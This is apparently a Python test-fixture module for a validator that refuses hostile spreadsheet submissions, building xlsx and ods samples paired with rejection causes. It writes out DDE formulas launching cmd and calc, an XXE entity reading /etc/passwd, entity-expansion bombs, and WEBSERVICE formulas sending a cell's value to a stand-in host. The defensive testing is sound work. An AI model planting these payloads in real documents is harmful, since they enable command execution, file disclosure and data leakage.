"""Workbooks that nobody should hand in: what each does, and why it is refused."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from functools import cache

import book_samples as books
import documents_samples as documents
from book_samples import added
from documents_samples import XML, cell, ods, relations, xlsx

from etabli.exam.contract.causes import Cause

Sample = tuple[str, bytes, Cause]
SAME = (
    *("pdf-renomme", "ancien-xls", "xls-renomme", "chiffre-xlsx", "chiffre-ods", "chiffre-zip", "zip-abime"),
    *("bombe-zip", "zip-menteur", "bombe-entites", "entite-externe", "styles", "million-de-rangs", "million-repete"),
    *("million-de-rangs-nus", "dernier-rang", "deux-cents-feuilles"),
)
"""Those of `documents_samples.hostile` that are workbooks too."""
_CAUSES = {
    **dict.fromkeys(("pdf-renomme",), Cause.WRONG_KIND),
    **dict.fromkeys(("ancien-xls", "xls-renomme"), Cause.OLD_FORMAT),
    **dict.fromkeys(("chiffre-xlsx", "chiffre-ods", "chiffre-zip"), Cause.ENCRYPTED),
    **dict.fromkeys(("zip-abime", "zip-menteur"), Cause.BROKEN_FILE),
    **dict.fromkeys(("bombe-zip", "styles", "million-de-rangs"), Cause.TOO_HEAVY),
    **dict.fromkeys(("bombe-entites", "entite-externe"), Cause.TRAPPED_FILE),
    **dict.fromkeys(("million-repete", "million-de-rangs-nus", "dernier-rang", "deux-cents-feuilles"), Cause.TOO_MANY),
}
_BOMB = '<!DOCTYPE x [<!ENTITY a "boum"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>\n'
_FILE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n'


def with_formula(formula: str) -> bytes:
    return xlsx(f'<sheetData><row r="4"><c r="B4"><f>{formula}</f><v>1</v></c></row></sheetData>')


def ods_formula(formula: str) -> bytes:
    inside = f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="1"/>'
    return ods(f'<table:table table:name="Feuille1"><table:table-row>{inside}</table:table-row></table:table>')


def ods_with(tables: str = "", more: documents.Parts | None = None) -> bytes:
    sheet = f'<table:table table:name="Feuille1">{tables}<table:table-row>{cell("x")}</table:table-row></table:table>'
    return ods(sheet, more=more)


def _named(text: str, attributes: str = "") -> bytes:
    data = books.saved(books.analysis())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        main = archive.read("xl/workbook.xml").decode()
    name = f'<definedNames><definedName name="cache"{attributes}>{text}</definedName>'
    return added(data, {"xl/workbook.xml": main.replace("<definedNames>", name)})


def _chart(content: str) -> bytes:
    return added(books.saved(books.analysis()), {"xl/charts/chart1.xml": content})


def _link(inside: str, *, file: str = "") -> bytes:
    part = (
        f'{XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{inside}</externalLink>'
    )
    more: dict[str, str | bytes] = {"xl/externalLinks/externalLink1.xml": part}
    if file:
        more["xl/externalLinks/_rels/externalLink1.xml.rels"] = relations(
            ("rId1", "externalLinkPath", file), external=True
        )
    return xlsx("<sheetData/>", more=more)


def _circle(*names: str) -> str:
    """Formats of numbers, each of which shows the next one instead, and the last one the first."""
    number = 'xmlns:number="urn:n" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
    return "".join(
        f'<number:number-style {number} style:name="{name}"><number:number number:min-integer-digits="1"/>'
        f'<style:map style:condition="value()&gt;=0" style:apply-style-name="{after}"/></number:number-style>'
        for name, after in zip(names, (*names[1:], names[0]), strict=True)
    )


@cache
def own() -> Mapping[str, Sample]:
    """Those that only a workbook can be."""
    drawing = relations(("rId7", "image", "https://exemple.test/logo.png"), external=True)
    listener = '<office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners>'
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    rule = '<sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression"><formula>LEN(_xlfn.WEBSERVICE("http://exemple.test/"&amp;A1))&gt;0</formula></cfRule></conditionalFormatting>'
    binary = {"xl/vbaProject.bin": b"\0" * 40}
    office, far = (
        'xmlns:office="urn:o" xmlns:style="urn:s" xmlns:meta="urn:m" xmlns:draw="urn:d"',
        "https://exemple.test/fond.png",
    )
    behind = f'<style:background-image {xlink} xmlns:autre="urn:x" xlink:href="{far}" autre:href="Pictures/fond.png"/>'
    styles = f"{XML}<office:document-styles {office}><office:styles>{behind}</office:styles></office:document-styles>"
    fill = styles.replace("style:background-image", "draw:fill-image").replace("https:", "smb:")
    template = f'{XML}<office:document-meta {office} {xlink}><office:meta><meta:template xlink:href="//exemple.test/modele.ots"/></office:meta></office:document-meta>'
    chart = f'{XML}<office:document-content {office} {xlink}><style:background-image xlink:href="&#104;ttp://exemple.test/i.png"/></office:document-content>'
    link = {"xl/drawings/_rels/drawing1.xml.rels": relations(("rId7", "hyperlink", far), external=True)}
    blip = '<xdr:wsDr xmlns:xdr="urn:x" xmlns:a="urn:a" xmlns:r="urn:r"><a:blip r:link="rId7"/></xdr:wsDr>'
    return {
        "macros-xlsm": ("analyse.xlsm", xlsx("<sheetData/>", more=binary, kind="sheet.macroEnabled.main"), Cause.MACROS),
        "macros-renommees": ("analyse.xlsx", xlsx("<sheetData/>", more=binary), Cause.MACROS),
        "macros-type": ("analyse.xlsx", xlsx("<sheetData/>", kind="sheet.macroEnabled.main"), Cause.MACROS),
        "macros-feuille": ("analyse.xlsx", xlsx("<sheetData/>", more={"xl/macrosheets/sheet1.xml": "<x/>"}), Cause.MACROS),
        "macros-nom": ("analyse.xlsx", _named("EXEC(&quot;calc&quot;)"), Cause.MACROS),
        "macros-controle": ("analyse.xlsx", xlsx("<sheetData/>", more={"xl/activeX/activeX1.bin": b"x"}), Cause.MACROS),
        "macros-basic": ("analyse.ods", ods_with(more={"Basic/Standard/Module1.xml": "<m/>"}), Cause.MACROS),
        "macros-python": ("analyse.ods", ods_with(more={"Scripts/python/m.py": b"x"}), Cause.MACROS),
        "macros-evenement": ("analyse.ods", ods_with(listener), Cause.MACROS),
        "dde-formule": ("analyse.xlsx", with_formula("cmd|'/c calc'!A0"), Cause.DDE),
        "dde-lien": ("analyse.xlsx", _link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), Cause.DDE),
        "dde-ods": ("analyse.ods", ods_formula("of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;A1&quot;)"), Cause.DDE),
        "dde-source": ("analyse.ods", ods_with('<office:dde-source office:dde-application="soffice" office:dde-topic="x"/>'), Cause.DDE),
        "reseau-formule": ("analyse.xlsx", with_formula('_xlfn.WEBSERVICE("http://exemple.test/")'), Cause.FETCHES),
        "reseau-xml": ("analyse.xlsx", with_formula('_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://exemple.test/"),"//a")'), Cause.FETCHES),
        "reseau-image": ("analyse.xlsx", with_formula('_xlfn.IMAGE("http://exemple.test/i.png")'), Cause.FETCHES),
        "reseau-google": ("analyse.xlsx", with_formula('IFERROR(__xludf.DUMMYFUNCTION("IMPORTDATA(""http://exemple.test/"")"),1)'), Cause.FETCHES),
        "reseau-nom": ("analyse.xlsx", _named("_xlfn.WEBSERVICE(&quot;http://exemple.test&quot;)"), Cause.FETCHES),
        "reseau-regle": ("analyse.xlsx", xlsx(rule), Cause.FETCHES),
        "reseau-ods": ("analyse.ods", ods_formula("of:=COM.MICROSOFT.WEBSERVICE(&quot;http://exemple.test/&quot;)"), Cause.FETCHES),
        "reseau-dessin": ("analyse.xlsx", xlsx("<sheetData/>", more={"xl/drawings/_rels/drawing1.xml.rels": drawing}), Cause.FETCHES),
        "reseau-dessin-ods": ("analyse.ods", ods_with(f'<draw:image {xlink} xlink:href="https://exemple.test/i.png"/>'), Cause.FETCHES),
        "reseau-fond-ods": ("analyse.ods", ods_with(more={"styles.xml": styles}), Cause.FETCHES),
        "reseau-fond-automatique": ("analyse.ods", ods('<table:table table:name="F"/>', styles=behind.replace("style:background-image", "x")), Cause.FETCHES),
        "reseau-remplissage": ("analyse.ods", ods_with(more={"styles.xml": fill}), Cause.FETCHES),
        "reseau-modele": ("analyse.ods", ods_with(more={"meta.xml": template}), Cause.FETCHES),
        "reseau-objet": ("analyse.ods", ods_with(more={"Object 1/content.xml": chart}), Cause.FETCHES),
        "reseau-modele-xlsx": ("analyse.xlsx", xlsx("<sheetData/>", more={"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId9", "attachedTemplate", far), external=True)}), Cause.FETCHES),
        "reseau-deguise": ("analyse.xlsx", xlsx("<sheetData/>", more={**link, "xl/drawings/drawing1.xml": blip}), Cause.FETCHES),
        "lie-formule": ("analyse.xlsx", with_formula("[1]Feuil1!A1*2"), Cause.LINKED),
        "lie-chemin": ("analyse.xlsx", with_formula("SUM('C:\\prix\\[prix.xlsx]Feuil 1'!A1:A9)"), Cause.LINKED),
        "lie-partie": ("analyse.xlsx", _link("<externalBook/>", file="file:///C:/Users/dupont/prix.xlsx"), Cause.LINKED),
        "lie-ods": ("analyse.ods", ods_formula("of:=['file:///C:/prix.ods'#$Feuil1.A1]"), Cause.LINKED),
        "lie-feuille": ("analyse.ods", ods_with(f'<table:table-source {xlink} xlink:href="../prix.ods"/>'), Cause.LINKED),
        "lie-plage": ("analyse.ods", ods_with(f'<table:cell-range-source {xlink} xlink:href="file:///prix.ods"/>'), Cause.LINKED),
        "lie-objet": ("analyse.ods", ods_with(f'<draw:object {xlink} xlink:href="file:///prix.odt"/>'), Cause.LINKED),
        "entites-ods": ("analyse.ods", ods_with(more={"styles.xml": f"{XML}{_BOMB}<x>&c;</x>"}), Cause.TRAPPED_FILE),
        "entite-ods": ("analyse.ods", ods_with(more={"content.xml": f"{XML}{_FILE}<x>&a;</x>"}), Cause.TRAPPED_FILE),
        "entites-graphique": ("analyse.xlsx", _chart(f"{XML}{_BOMB}<x>&c;</x>"), Cause.TRAPPED_FILE),
        "graphique-coupe": ("analyse.xlsx", _chart(f"{XML}<chartSpace><chart>"), Cause.BROKEN_FILE),
        "graphique-profond": ("analyse.xlsx", _chart(f"{XML}{'<a>' * 3_000_000}{'</a>' * 3_000_000}"), Cause.TOO_HEAVY),
        "feuille-deux-fois": ("analyse.ods", ods('<table:table table:name="Été"/><table:table table:name="ÉTÉ"/>'), Cause.BROKEN_FILE),
        "feuille-sans-nom": ("analyse.ods", ods('<table:table table:name=""/>'), Cause.BROKEN_FILE),
        "feuille-mal-nommee": ("analyse.xlsx", xlsx("<sheetData/>", workbook='<sheet name="Syn_x002F_thèse" sheetId="1" r:id="rId1"/>'), Cause.BROKEN_FILE),
        "feuille-demi-signe": ("analyse.xlsx", xlsx("<sheetData/>", workbook='<sheet name="Écart _xD83D_" sheetId="1" r:id="rId1"/>'), Cause.BROKEN_FILE),
        "formats-en-rond": ("analyse.ods", ods('<table:table table:name="F"/>', styles=_circle("a", "b", "c")), Cause.BROKEN_FILE),
        "formats-communs": ("analyse.ods", ods_with(more={"styles.xml": styles.replace(behind, _circle("a", "b"))}), Cause.BROKEN_FILE),
        "formats-graphique": ("analyse.ods", ods_with(more={"Object 1/content.xml": styles.replace(behind, _circle("a", "b"))}), Cause.BROKEN_FILE),
        "csv": ("analyse.csv", b"a;b\n1;2\n", Cause.WRONG_KIND),
    }  # fmt: skip


def hostile() -> Mapping[str, Sample]:
    """All of them, by name: the file's name, its bytes, why it is refused."""
    everything = documents.hostile()
    same = {name: (*everything[name], _CAUSES[name]) for name in SAME}
    return {**same, **own()}


def hostile_cause(name: str) -> Cause:
    """Why one of them is refused."""
    return _CAUSES[name] if name in _CAUSES else own()[name][2]
